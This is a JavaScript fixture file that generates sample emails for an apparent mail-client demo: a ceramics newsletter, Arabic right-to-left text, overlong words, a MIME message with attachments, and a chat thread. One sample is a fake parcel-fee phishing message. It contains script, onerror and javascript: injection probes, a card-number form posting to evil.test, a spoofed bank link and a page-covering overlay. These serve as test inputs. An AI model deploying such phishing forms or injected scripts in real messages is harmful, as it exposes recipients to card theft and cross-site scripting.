// The mail that the pictures show beside the demo's own: each kind that has gone wrong in somebody's inbox.
import { Buffer } from "node:buffer";

const NEWSLETTER = `<table width="600" align="center" style="font-family:Georgia;background:#fff8ec;color:#3a2a10">
<tr><td style="padding:24px;background:#7a3e12;color:#fff"><h1 style="margin:0">Glaze &amp; Fire</h1><p style="margin:4px 0 0">News from the kiln, spring</p></td></tr>
<tr><td style="padding:24px"><h2>Twelve new glazes</h2><p>We opened the kiln on Monday. Celadon came out softer than ever, and the tenmoku
has the rabbit's fur we hoped for.</p><img src="https://images.example.test/kiln.jpg" width="552" height="200" alt="The open kiln">
<p><a href="https://tanaka-ceramics.test/spring" style="background:#7a3e12;color:#fff;padding:10px 18px;text-decoration:none">See them all</a></p>
<table width="100%" border="1" cellpadding="6" style="border-collapse:collapse"><tr><th>Glaze</th><th>Price</th></tr><tr><td>Celadon</td><td>24</td></tr><tr><td>Tenmoku</td><td>28</td></tr></table></td></tr>
<tr><td style="padding:16px;font-size:12px;color:#8a7a60">You get this because you asked for it. <a href="https://tanaka-ceramics.test/out">No more of it</a></td></tr></table>`;

const HOSTILE = `<p>Your parcel is waiting, pay the fee.</p><script>alert(1)</script><img src=x onerror="alert(2)">
<form action="https://evil.test/"><input name=card placeholder="Card number"><button>Pay</button></form>
<a href="javascript:alert(3)">Track it</a> <a href="https://evil.test/?u=bank.example">https://bank.example/login</a>
<div style="position:fixed;inset:0;background:red;z-index:9999">Pay now</div><style>*{font-size:60px!important}</style>`;

const RTL = `مرحبا آن،

نود أن نحصل على عرض لسقف المكتب الجديد. المساحة حوالي 120 مترا مربعا، والعنوان شارع النيل 14.

هل يناسبكم يوم الخميس؟

مع التحية،
فاطمة`;

const LONG_WORD = `Hello Ann,

the link is https://files.nordlys-solar.test/${"a-very-long-name-without-any-space-".repeat(8)}.pdf and the number is ${"1234567890".repeat(12)}.

Oskar`;

/** A text file and a small PNG go along. */
function withFiles(from, to, subject, text, image) {
  const part = (type, name, bytes) => [
    "--b",
    `Content-Type: ${type}`,
    `Content-Disposition: attachment; filename="${name}"`,
    "Content-Transfer-Encoding: base64",
    "",
    ...bytes.toString("base64").match(/.{1,76}/g),
  ];
  return [
    `From: ${from}`,
    `To: ${to}`,
    `Subject: ${subject}`,
    `Date: ${new Date().toUTCString()}`,
    "MIME-Version: 1.0",
    'Content-Type: multipart/mixed; boundary="b"',
    "",
    "--b",
    "Content-Type: text/plain; charset=utf-8",
    "",
    text,
    ...part("image/png", "north-side.png", image),
    ...part(
      "text/csv",
      "measurements and prices for the whole north side, second try.csv",
      Buffer.from("a,b\r\n1,2\r\n"),
    ),
    "--b--",
    "",
  ].join("\r\n");
}

/** What people write to Ann at `to`, in this order. */
export function letters(to, image) {
  const raw = withFiles(
    "Dana Okafor <dana@okafor-roofing.test>",
    to,
    "Pictures of the north side",
    "Here they are. The second row is the worst.\r\n\r\nDana",
    image,
  );
  return [
    [
      "yuki@tanaka-ceramics.test",
      { subject: "News from the kiln", text: "News from the kiln", html: NEWSLETTER },
    ],
    ["hannah@brightpaws-vet.test", { subject: "Your parcel is waiting", text: "Pay", html: HOSTILE }],
    ["fatima@elbadry-law.test", { subject: "عرض لسقف المكتب", text: RTL }],
    ["oskar@nordlys-solar.test", { subject: "The file, and its number", text: LONG_WORD }],
    ["dana@okafor-roofing.test", { raw_base64: Buffer.from(raw).toString("base64") }],
  ];
}

/** A conversation of many turns, oldest first: who writes, and what. */
export const TURNS = [
  "Could we move the session to six?",
  "Six is taken, half past six is free.",
  "Half past six then. Do I bring the mat?",
  "There are mats here.",
  "And shoes?",
  "Any that are clean. The floor was laid last week.",
  "Good. One more thing: my brother would like to come along and look, if that is all right with you. He has a bad knee, so he would only watch.",
  "He is welcome.",
  "Thank you!",
];
